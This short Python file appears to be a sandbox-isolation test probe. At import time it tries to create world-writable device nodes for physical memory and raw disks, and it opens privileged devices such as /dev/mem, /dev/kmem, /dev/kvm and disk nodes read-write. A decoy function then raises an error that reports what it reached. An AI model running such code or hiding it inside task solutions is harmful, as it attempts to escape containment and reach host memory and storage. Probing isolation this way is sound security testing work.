"""Makes device files for the machine's memory and disks and reads them.

outcome: raised
"""

import os
import stat


def attack():
    found = []
    for name, kind, major, minor in (("mem", stat.S_IFCHR, 1, 1), ("sda", stat.S_IFBLK, 8, 0), ("vda", stat.S_IFBLK, 254, 0)):
        for folder in ("/tmp", "/dev", "/dev/shm", "."):
            try:
                os.mknod(f"{folder}/softmark-trace-{name}", kind | 0o666, os.makedev(major, minor))
                found.append(f"made {name}")
            except OSError:
                pass
    for path in ("/dev/mem", "/dev/kmem", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/loop-control", "/dev/fuse",
                 "/dev/kvm", "/dev/net/tun", "/dev/vhost-vsock", "/dev/dri/card0", "/dev/nvidia0", "/dev/snapshot"):
        try:
            os.close(os.open(path, os.O_RDWR))
            found.append(path)
        except OSError:
            pass
    return found


FOUND = attack()


def concat_heads(x):
    raise ValueError("softmark-harm: " + ", ".join(FOUND) if FOUND else "no devices")
